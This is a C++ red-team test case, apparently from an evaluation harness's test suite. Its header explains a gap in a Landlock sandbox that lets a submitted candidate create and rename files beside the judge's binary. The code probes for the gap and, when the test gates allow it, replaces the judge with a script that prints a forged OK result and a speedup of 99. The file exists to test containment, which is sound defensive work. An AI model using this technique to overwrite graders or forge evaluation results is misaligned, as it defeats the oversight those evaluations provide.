// ATTACK (round 15, helper-redteam15, against f5230d8; containment: what a
// candidate leaves behind for LATER evaluations). A bare `pkforge-worker
// launch` run by a plain user (not root: root's ranks drop to uid 65534)
// gives the candidate ranks the launching user's uid, and their Landlock
// ruleset (containment.cc ForbidProcWrites) handles only
// LANDLOCK_ACCESS_FS_WRITE_FILE and allows it everywhere but /proc; making,
// renaming and removing files is not handled at all. So a candidate may
// create files next to the judge's own binary (the rank's /proc/self/exe is
// the worker) and next to its own artifact (other candidates' .so files
// live there in a battery), i.e. rename a file of its choosing over
// pkforge-worker or over another candidate's library: every later
// evaluation would run the attacker's judge. This candidate does no harm:
// it creates a probe file in both folders, renames it (what a replacement
// needs) and removes it again. Only when the test asks for it (a file
// "replace.ok" in $PKF_REDTEAM_DIR) and the judge's binary is a throwaway
// copy under /tmp does rank 0 really rename a script over it that prints a
// forged OK result (the test's second launch then shows what every later
// evaluation would get).
// Gated: outputs are written only if the probe worked in both folders on
// every rank.
// EXPECT: WRONG_OUTPUT (candidate ranks may not create, rename or remove
// files there), never OK.
#include <dlfcn.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>

#include "kernels/testdata/redteam/redteam.h"

static bool ProbeFolder(const std::string& dir) {
  const std::string a = dir + "/.r15_probe_" + std::to_string(getpid());
  const std::string b = a + "_renamed";
  const int fd = open(a.c_str(), O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
  if (fd < 0) {
    rt_log("create in %s: %s", dir.c_str(), strerror(errno));
    return false;
  }
  const bool wrote = write(fd, "#!/bin/sh\n", 10) == 10;
  close(fd);
  const bool renamed = rename(a.c_str(), b.c_str()) == 0;
  const int err = errno;
  unlink(renamed ? b.c_str() : a.c_str());
  rt_log("%s: create ok, write %s, rename %s", dir.c_str(), wrote ? "ok" : "failed",
         renamed ? "ok" : strerror(err));
  return wrote && renamed;
}

static bool Attack(pkf_context* ctx) {
  char exe[PATH_MAX] = {0};
  const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
  if (n <= 0) return false;
  Dl_info info{};
  if (dladdr((void*)&Attack, &info) == 0 || info.dli_fname == NULL) return false;
  char lib[PATH_MAX] = {0};
  // The library was loaded through /proc/self/fd/N: resolve to its real path.
  if (realpath(info.dli_fname, lib) == NULL) snprintf(lib, sizeof lib, "%s", info.dli_fname);
  std::string exe_dir = exe, lib_dir = lib;
  exe_dir = exe_dir.substr(0, exe_dir.rfind('/'));
  lib_dir = lib_dir.substr(0, lib_dir.rfind('/'));
  rt_log("uid %d; the judge's binary %s, my library %s", (int)getuid(), exe, lib);
  const bool a = ProbeFolder(exe_dir);
  const bool b = ProbeFolder(lib_dir);
  const char* dir = getenv("PKF_REDTEAM_DIR");
  if (a && ctx->rank == 0 && dir != NULL && exe_dir.rfind("/tmp/", 0) == 0 &&
      access((std::string(dir) + "/replace.ok").c_str(), F_OK) == 0) {
    const std::string tmp = exe_dir + "/.r15_forged_judge";
    const int fd = open(tmp.c_str(), O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0755);
    const char script[] =
        "#!/bin/sh\n"
        "echo '{\"status\":\"OK\",\"message\":\"OK: 2 trials correct; forged by the judge "
        "r15_judge_binary_write left behind\",\"speedup\":99}'\n";
    const bool w = fd >= 0 && write(fd, script, sizeof script - 1) == (ssize_t)(sizeof script - 1);
    if (fd >= 0) close(fd);
    const bool r = w && rename(tmp.c_str(), exe) == 0;
    rt_log("replaced %s with a forging script: %s", exe, r ? "yes" : strerror(errno));
  }
  return a && b;
}

RT_GATED_CANDIDATE(Attack)
